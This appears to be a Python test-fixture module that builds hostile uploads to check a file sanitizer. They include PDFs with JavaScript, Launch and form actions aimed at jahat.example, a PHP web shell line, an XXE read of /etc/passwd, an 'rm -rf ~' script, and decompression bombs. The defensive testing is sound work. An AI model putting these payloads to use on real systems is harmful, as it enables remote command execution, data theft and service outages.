"""Files that want to do harm, or that an honest phone breaks on the way. All are built here, none is stored.

`HOSTILE` names each with its content and what must become of it: a `Refusal`, or `REBUILT` when a harmless copy is the
right answer. `payload` is what must not be left in that copy, packed or unpacked.
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cache
from typing import Final

import pikepdf
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from core.uploads import MAX_BYTES, Refusal

REBUILT: Final = None
PHP: Final = b"<?php system($_GET['c']); ?>"
SCRIPT: Final = b"app.launchURL('http://jahat.example')"
EXE: Final = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"This program cannot be run in DOS mode." + bytes(200)
EICAR: Final = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*"


@dataclass(frozen=True)
class HostileFile:
    name: str
    build: Callable[[], bytes]
    outcome: Refusal | None
    payload: bytes = b""

    def __str__(self) -> str:
        return self.name


# ---- honest bases -----------------------------------------------------------------------------------------


def picture(size: tuple[int, int] = (64, 48), mode: str = "RGB") -> Image.Image:
    return Image.linear_gradient("L").resize(size).convert(mode)


def jpeg(size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    out = io.BytesIO()
    picture(size).save(out, "JPEG", **options)
    return out.getvalue()


def png(size: tuple[int, int] = (64, 48), mode: str = "RGB", **options: object) -> bytes:
    out = io.BytesIO()
    picture(size, mode).save(out, "PNG", **options)
    return out.getvalue()


def saved(pdf: Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)  # type: ignore[arg-type]
    return out.getvalue()


def document(pages: int = 1, text: str = "Ijazah") -> Pdf:
    """An honest PDF of so many A4 pages with one line of text each."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(f"BT /F1 24 Tf 72 760 Td ({text} {number}) Tj ET".encode())
    return pdf


def altered(change: Callable[[Pdf], None], **options: object) -> Callable[[], bytes]:
    def build() -> bytes:
        pdf = document()
        change(pdf)
        return saved(pdf, **options)

    return build


@cache
def honest_pdf() -> bytes:
    return saved(document())


# ---- PDF --------------------------------------------------------------------------------------------------


def javascript() -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(SCRIPT.decode()))


def open_script(pdf: Pdf) -> None:
    pdf.Root.OpenAction = javascript()


def page_script(pdf: Pdf) -> None:
    pdf.pages[0].obj.AA = Dictionary(O=javascript())


def named_script(pdf: Pdf) -> None:
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(javascript())])))


def launch(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe")))


def attachment(pdf: Pdf) -> None:
    pdf.attachments["ijazah.exe"] = EXE


def annotation(pdf: Pdf, **fields: object) -> None:
    mark = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 595, 842]), **fields)
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(mark)])


def link(pdf: Pdf) -> None:
    annotation(pdf, Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("http://jahat.example/")))


def file_annotation(pdf: Pdf) -> None:
    held = pdf.make_stream(EXE, {"/Type": Name.EmbeddedFile})
    annotation(pdf, Subtype=Name.FileAttachment, FS=Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=held)))


def rich_media(pdf: Pdf) -> None:
    flash = pdf.make_stream(b"FWS" + EXE, {"/Type": Name.EmbeddedFile})
    annotation(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([flash]))))


def form(pdf: Pdf) -> None:
    field = Dictionary(FT=Name.Btn, T=String("kirim"), A=Dictionary(S=Name.SubmitForm, F=String("http://jahat.example")))
    annotation(pdf, Subtype=Name.Widget, Parent=pdf.make_indirect(field))
    xfa = pdf.make_stream(b"<xdp:xdp><script>" + SCRIPT + b"</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([pdf.pages[0].obj.Annots[0]]), XFA=xfa)


def drawn_object(pdf: Pdf, **keys: object) -> Stream:
    """A form drawn by the page, carrying `keys` along."""
    held = pdf.make_stream(b"0 0 10 10 re f", {"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": Array([0, 0, 9, 9])})
    for key, value in keys.items():
        held[f"/{key}"] = value
    pdf.pages[0].obj.Resources.XObject = Dictionary(X=held)
    return held


def reference_object(pdf: Pdf) -> None:
    drawn_object(pdf, Ref=Dictionary(F=String("//jahat.example/a.pdf"), Page=0))


def external_stream(pdf: Pdf) -> None:
    drawn_object(pdf, F=String("/etc/passwd"))


def hidden_attachment(pdf: Pdf) -> None:
    held = pdf.make_stream(EXE, {"/Type": Name.EmbeddedFile})
    drawn_object(pdf, AF=Array([Dictionary(Type=Name.Filespec, EF=Dictionary(F=held))]))


def attachment_in_resources(pdf: Pdf) -> None:
    pdf.pages[0].obj.Resources.Muatan = pdf.make_stream(EXE, {"/Type": Name.EmbeddedFile})


def script_in_resources(pdf: Pdf) -> None:
    pdf.pages[0].obj.Resources.Muatan = Dictionary(Dalam=Array([javascript()]))


def postscript_object(pdf: Pdf) -> None:
    drawn_object(pdf).stream_dict.Subtype = Name.PS  # type: ignore[attr-defined]


def private_data(pdf: Pdf) -> None:
    pdf.pages[0].obj.PieceInfo = Dictionary(App=Dictionary(Private=String(PHP.decode())))
    pdf.docinfo["/Author"] = String(PHP.decode())


def next_actions(pdf: Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.Named, N=Name.Print, Next=javascript())


def raw_stream(pdf: Pdf, data: bytes, filters: object) -> Stream:
    stream = pdf.make_stream(b"")
    stream.write(data, filter=filters)  # type: ignore[arg-type]
    return stream


def flate_bomb(pdf: Pdf) -> None:
    pdf.pages[0].obj.Contents = raw_stream(pdf, deflated(300), Name.FlateDecode)


def double_flate_bomb(pdf: Pdf) -> None:
    twice = Array([Name.FlateDecode, Name.FlateDecode])
    pdf.pages[0].obj.Contents = raw_stream(pdf, zlib.compress(deflated(2000), 9), twice)


def run_length_bomb(pdf: Pdf) -> None:
    pdf.pages[0].obj.Contents = raw_stream(pdf, b"\x81A" * 2_000_000 + b"\x80", Name.RunLengthDecode)


def many_bombs(pdf: Pdf) -> None:
    pieces = [raw_stream(pdf, deflated(90), Name.FlateDecode) for _ in range(6)]
    pdf.pages[0].obj.Contents = Array([pdf.make_indirect(piece) for piece in pieces])


def image_object(pdf: Pdf, width: int, height: int, data: bytes) -> None:
    held = raw_stream(pdf, data, Name.FlateDecode)
    fields = {"Type": Name.XObject, "Subtype": Name.Image, "Width": width, "Height": height}
    for key, value in {**fields, "BitsPerComponent": 8, "ColorSpace": Name.DeviceGray}.items():
        held[f"/{key}"] = value
    pdf.pages[0].obj.Resources.XObject = Dictionary(X=held)


def image_bomb(pdf: Pdf) -> None:
    image_object(pdf, 6000, 6000, deflated(300))


def pixel_bomb(pdf: Pdf) -> None:
    image_object(pdf, 100_000, 100_000, zlib.compress(b"\0"))


@cache
def deflated(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    block = bytes(1024 * 1024)
    return b"".join(packer.compress(block) for _ in range(megabytes)) + packer.flush()


def object_stream_bomb() -> bytes:
    """The bomb sits where the file keeps its own objects, so already opening it goes off."""
    data = deflated(300)
    body = b"%PDF-1.5\n"
    at = len(body)
    body += b"2 0 obj<</Type/XRef/Size 3/W[1 2 1]/Root 1 0 R/Filter/FlateDecode/Length %d>>stream\n" % len(data)
    return body + data + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % at


def written_by_hand(*objects: bytes) -> bytes:
    """A PDF of the given object bodies, numbered from 1; the first is the catalogue."""
    body, places = b"%PDF-1.7\n", []
    for number, item in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, item)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    head = b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
    return body + head + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, len(body))


def looped_pages() -> bytes:
    return written_by_hand(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 2/Kids[2 0 R 2 0 R]>>")


def repeated_page() -> bytes:
    kids = b"3 0 R " * 50_000
    return written_by_hand(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 50000/Kids[%s]>>" % kids,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    )


def deep_arrays() -> bytes:
    deep = b"[" * 20_000 + b"]" * 20_000
    return written_by_hand(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<</X %s>>>>" % deep,
    )


def no_pages() -> bytes:
    return written_by_hand(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 0/Kids[]>>")


def negative_picture() -> bytes:
    image = b"<</Type/XObject/Subtype/Image/Width(a)/Height[]/Length 1>>stream\nA\nendstream"
    return written_by_hand(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<</XObject<</X 4 0 R>>>>>>",
        image,
    )


def locked(*, user: str) -> Callable[[], bytes]:
    return lambda: saved(document(), encryption=pikepdf.Encryption(owner="pemilik", user=user))


# ---- pictures ---------------------------------------------------------------------------------------------


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def huge_png(width: int, height: int) -> bytes:
    """One bit per pixel, all of it zeros: 400 million pixels in about 50 KB."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    row = bytes(1 + (width + 7) // 8)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def with_chunk(kind: bytes, data: bytes) -> bytes:
    """An honest PNG with one more chunk right after its header."""
    base = png()
    return base[:33] + chunk(kind, data) + base[33:]


def bad_checksum() -> bytes:
    base = bytearray(png())
    base[-20] ^= 0xFF
    return bytes(base)


def commented_png() -> bytes:
    info = PngInfo()
    info.add_text("Comment", PHP.decode())
    return png(pnginfo=info)


def moving_png() -> bytes:
    frames = [picture(), picture().transpose(Image.Transpose.ROTATE_180)]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def tagged_jpeg() -> bytes:
    exif = Image.Exif()
    exif[0x010E] = PHP.decode()
    exif.get_ifd(0x8825)[1] = "S"
    return jpeg(exif=exif)


def oversized_jpeg() -> bytes:
    """The header claims 65,500 × 65,500 pixels."""
    base = jpeg()
    at = base.index(b"\xff\xc0") + 5
    return base[:at] + struct.pack(">HH", 65500, 65500) + base[at + 4 :]


def scan_bomb() -> bytes:
    """A progressive JPEG that repeats an empty refinement of 25 million pixels until the file is full."""
    base = jpeg((5000, 5000), progressive=True, quality=5)
    last = base.rindex(b"\xff\xda")
    return base[:-2] + base[last:-2] * ((MAX_BYTES - len(base)) // (len(base) - last)) + base[-2:]


# ---- other kinds ------------------------------------------------------------------------------------------


def archive(files: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, data in files.items():
            packed.writestr(name, data)
    return out.getvalue()


def workbook(**more: bytes) -> bytes:
    return archive({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>", **more})


def compound(text: str) -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + text.encode("utf-16-le") + bytes(512)


def boxed(brand: bytes) -> bytes:
    return struct.pack(">I", 24) + b"ftyp" + brand + bytes(4) + b"mif1heic" + bytes(400)


def fixed(data: bytes) -> Callable[[], bytes]:
    return lambda: data


SVG: Final = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
XXE: Final = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
HTML: Final = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
PIXEL_GIF: Final = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,"

OTHER_KINDS: Final = (
    HostileFile("kosong.pdf", fixed(b""), Refusal.EMPTY),
    HostileFile("satu-bita.jpg", fixed(b"\xff"), Refusal.KIND_NOT_ALLOWED),
    HostileFile("spasi.pdf", fixed(b" " * 4096), Refusal.KIND_NOT_ALLOWED),
    HostileFile("lebih-satu-bita.pdf", lambda: b"%PDF-1.7\n".ljust(MAX_BYTES + 1), Refusal.TOO_LARGE),
    HostileFile("ijazah.pdf (exe)", fixed(EXE), Refusal.PROGRAM),
    HostileFile("ijazah.pdf.exe", fixed(EXE), Refusal.PROGRAM),
    HostileFile("str.jpg (elf)", fixed(b"\x7fELF\x02\x01\x01" + bytes(300)), Refusal.PROGRAM),
    HostileFile("foto.jpg (shell)", fixed(b"#!/bin/sh\nrm -rf ~\n"), Refusal.PROGRAM),
    HostileFile("kelas.png (java)", fixed(b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(100)), Refusal.PROGRAM),
    HostileFile("pintasan.pdf (lnk)", fixed(b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100)), Refusal.PROGRAM),
    HostileFile("eicar.jpg", fixed(EICAR), Refusal.KIND_NOT_ALLOWED),
    HostileFile("logo.svg", fixed(SVG), Refusal.KIND_NOT_ALLOWED),
    HostileFile("logo.png (svg)", fixed(b'<?xml version="1.0"?>' + SVG), Refusal.KIND_NOT_ALLOWED),
    HostileFile("surat.pdf (html)", fixed(HTML), Refusal.KIND_NOT_ALLOWED),
    HostileFile("kulit.jpg (php)", fixed(PHP), Refusal.KIND_NOT_ALLOWED),
    HostileFile("xxe.pdf", fixed(XXE), Refusal.KIND_NOT_ALLOWED),
    HostileFile("gambar.gif", fixed(PIXEL_GIF), Refusal.KIND_NOT_ALLOWED),
    HostileFile("gambar.jpg (gif+js)", fixed(b"GIF89a=1;/*" + bytes(99) + b"*/alert(1)"), Refusal.KIND_NOT_ALLOWED),
    HostileFile("pindai.tiff", fixed(b"II*\x00\x08\x00\x00\x00" + bytes(99)), Refusal.KIND_NOT_ALLOWED),
    HostileFile("foto.webp", fixed(b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(99)), Refusal.KIND_NOT_ALLOWED),
    HostileFile("gambar.bmp", fixed(b"BM" + bytes(99)), Refusal.KIND_NOT_ALLOWED),
    HostileFile("video.mp4", fixed(boxed(b"isom").replace(b"mif1heic", b"isommp42")), Refusal.KIND_NOT_ALLOWED),
    HostileFile("IMG_0001.HEIC", fixed(boxed(b"heic")), Refusal.HEIC),
    HostileFile("IMG_0002.jpg (heif)", fixed(boxed(b"mif1")), Refusal.HEIC),
    HostileFile("catatan.rtf", fixed(b"{\\rtf1\\ansi{\\object\\objdata 0105}}"), Refusal.KIND_NOT_ALLOWED),
    HostileFile("surat.ps", fixed(b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file"), Refusal.KIND_NOT_ALLOWED),
    HostileFile("surat.docx", lambda: archive({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}), Refusal.OFFICE_FILE),
    HostileFile("surat.docm", lambda: archive({"[Content_Types].xml": b"", "word/vbaProject.bin": b"x"}), Refusal.MACRO),
    HostileFile("daftar.xlsx", workbook, Refusal.OFFICE_FILE),
    HostileFile("daftar.xlsx (bom)", lambda: workbook(lembar=bytes(100 * 1024 * 1024)), Refusal.OFFICE_FILE),
    HostileFile("lama.doc", fixed(compound("WordDocument")), Refusal.OFFICE_FILE),
    HostileFile("lama.xls (makro)", fixed(compound("_VBA_PROJECT")), Refusal.MACRO),
    HostileFile("berkas.zip", lambda: archive({"ijazah.pdf": honest_pdf()}), Refusal.ARCHIVE),
    HostileFile("bom.pdf (zip)", lambda: archive({"nol": bytes(100 * 1024 * 1024)}), Refusal.ARCHIVE),
    HostileFile("berlapis.zip", lambda: archive({"a.zip": archive({"b.zip": archive({"c": b"c"})})}), Refusal.ARCHIVE),
    HostileFile("bom.gz", lambda: gzip.compress(bytes(50 * 1024 * 1024)), Refusal.ARCHIVE),
    HostileFile("berkas.7z", fixed(b"7z\xbc\xaf\x27\x1c" + bytes(99)), Refusal.ARCHIVE),
    HostileFile("berkas.rar", fixed(b"Rar!\x1a\x07\x01\x00" + bytes(99)), Refusal.ARCHIVE),
)

PDFS: Final = (
    HostileFile("html-dan-pdf.pdf", lambda: HTML + honest_pdf(), Refusal.POLYGLOT),
    HostileFile("pdf-terlambat.pdf", lambda: bytes(500) + honest_pdf(), Refusal.POLYGLOT),
    HostileFile("zip-dan-pdf.pdf", lambda: archive({"a": honest_pdf()}) + honest_pdf(), Refusal.ARCHIVE),
    HostileFile("gif-dan-pdf.pdf", lambda: PIXEL_GIF + honest_pdf(), Refusal.POLYGLOT),
    HostileFile("pdf-lalu-zip.pdf", lambda: honest_pdf() + archive({"a": EXE * 99, "b.jpg": jpeg()}), Refusal.POLYGLOT),
    HostileFile("pdf-lalu-php.pdf", lambda: honest_pdf() + PHP, REBUILT, PHP),
    HostileFile("php-di-komentar.pdf", lambda: honest_pdf().replace(b"\n", b"\n%" + PHP + b"\n", 1), REBUILT, PHP),
    HostileFile("delapan-puluh-bita.pdf", lambda: honest_pdf()[:80], Refusal.TRUNCATED),
    HostileFile("terpotong.pdf", lambda: saved(document(9))[:-700], Refusal.TRUNCATED),
    HostileFile("kepala-saja.pdf", fixed(b"%PDF-1.7\n"), Refusal.TRUNCATED),
    HostileFile("kepala-dan-ekor.pdf", fixed(b"%PDF-1.7\n%%EOF\n"), Refusal.DAMAGED),
    HostileFile("sampah.pdf", fixed(b"%PDF-1.7\n" + bytes(range(256)) * 400 + b"\n%%EOF"), Refusal.DAMAGED),
    HostileFile("bersandi.pdf", locked(user="rahasia"), Refusal.ENCRYPTED_PDF),
    HostileFile("terlindung.pdf", locked(user=""), Refusal.PROTECTED_PDF),
    HostileFile("tanpa-halaman.pdf", no_pages, Refusal.EMPTY),
    HostileFile("tiga-ratus-satu.pdf", lambda: saved(document(301)), Refusal.TOO_MANY_PAGES),
    HostileFile("lima-puluh-ribu-kali.pdf", repeated_page, Refusal.TOO_MANY_PAGES),
    HostileFile("lingkaran.pdf", looped_pages, Refusal.EMPTY),
    HostileFile("larik-dalam.pdf", deep_arrays, Refusal.DAMAGED),
    HostileFile("ukuran-aneh.pdf", negative_picture, Refusal.DAMAGED),
    HostileFile("bom-aliran.pdf", altered(flate_bomb), Refusal.BOMB),
    HostileFile("bom-berlapis.pdf", altered(double_flate_bomb), Refusal.BOMB),
    HostileFile("bom-run-length.pdf", altered(run_length_bomb, compress_streams=False), Refusal.BOMB),
    HostileFile("enam-bom.pdf", altered(many_bombs), Refusal.BOMB),
    HostileFile("bom-gambar.pdf", altered(image_bomb), Refusal.BOMB),
    HostileFile("bom-piksel.pdf", altered(pixel_bomb), Refusal.BOMB),
    HostileFile("bom-daftar-objek.pdf", object_stream_bomb, Refusal.DAMAGED),
    HostileFile("skrip-pembuka.pdf", altered(open_script), REBUILT, SCRIPT),
    HostileFile("skrip-halaman.pdf", altered(page_script), REBUILT, SCRIPT),
    HostileFile("skrip-bernama.pdf", altered(named_script), REBUILT, SCRIPT),
    HostileFile("skrip-berantai.pdf", altered(next_actions), REBUILT, SCRIPT),
    HostileFile("skrip-di-sumber.pdf", altered(script_in_resources), REBUILT, SCRIPT),
    HostileFile("peluncur.pdf", altered(launch), REBUILT, b"cmd.exe"),
    HostileFile("lampiran.pdf", altered(attachment), REBUILT, b"DOS mode"),
    HostileFile("lampiran-catatan.pdf", altered(file_annotation), REBUILT, b"DOS mode"),
    HostileFile("lampiran-tersembunyi.pdf", altered(hidden_attachment), REBUILT, b"DOS mode"),
    HostileFile("lampiran-di-sumber.pdf", altered(attachment_in_resources), REBUILT, b"DOS mode"),
    HostileFile("media.pdf", altered(rich_media), REBUILT, b"DOS mode"),
    HostileFile("tautan.pdf", altered(link), REBUILT, b"jahat.example"),
    HostileFile("formulir-xfa.pdf", altered(form), REBUILT, b"jahat.example"),
    HostileFile("acuan-luar.pdf", altered(reference_object), REBUILT, b"jahat.example"),
    HostileFile("aliran-luar.pdf", altered(external_stream), REBUILT, b"/etc/passwd"),
    HostileFile("postscript.pdf", altered(postscript_object), REBUILT, b"/PS"),
    HostileFile("data-pribadi.pdf", altered(private_data), REBUILT, PHP),
)

PICTURES: Final = (
    HostileFile("empat-ratus-megapiksel.png", lambda: huge_png(20_000, 20_000), Refusal.BOMB),
    HostileFile("empat-puluh-satu-megapiksel.png", lambda: huge_png(6_410, 6_410), Refusal.BOMB),
    HostileFile("enam-puluh-ribu.jpg", oversized_jpeg, Refusal.BOMB),
    HostileFile("bom-pindaian.jpg", scan_bomb, Refusal.BOMB),
    HostileFile("bom-teks.png", lambda: with_chunk(b"zTXt", b"a\0\0" + deflated(300)), Refusal.DAMAGED),
    HostileFile("bom-warna.png", lambda: with_chunk(b"iCCP", b"a\0\0" + deflated(300)), Refusal.DAMAGED),
    HostileFile("ekor-php.jpg", lambda: jpeg() + PHP, REBUILT, PHP),
    HostileFile("ekor-php.png", lambda: png() + PHP, REBUILT, PHP),
    HostileFile("ekor-zip.jpg", lambda: jpeg() + archive({"a.exe": EXE}), REBUILT, b"a.exe"),
    HostileFile("komentar.jpg", lambda: jpeg(comment=PHP), REBUILT, PHP),
    HostileFile("komentar.png", commented_png, REBUILT, PHP),
    HostileFile("bertanda-lokasi.jpg", tagged_jpeg, REBUILT, PHP),
    HostileFile("foto.pdf (jpg)", jpeg, REBUILT, b"Exif"),
    HostileFile("bergerak.png", moving_png, REBUILT, b"fdAT"),
    HostileFile("terpotong.jpg", lambda: jpeg((900, 700))[:2500], Refusal.TRUNCATED),
    HostileFile("terpotong.png", lambda: png((900, 700))[:900], Refusal.TRUNCATED),
    HostileFile("kepala-saja.jpg", fixed(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01"), Refusal.DAMAGED),
    HostileFile("kepala-saja.png", lambda: png()[:33], Refusal.DAMAGED),
    HostileFile("salah-jumlah.png", bad_checksum, Refusal.DAMAGED),
    HostileFile("lebar-nol.png", lambda: huge_png(0, 10), Refusal.DAMAGED),
    HostileFile("html.jpg", fixed(b"\xff\xd8\xff\xe0" + HTML), Refusal.DAMAGED),
)

HOSTILE: Final = OTHER_KINDS + PDFS + PICTURES
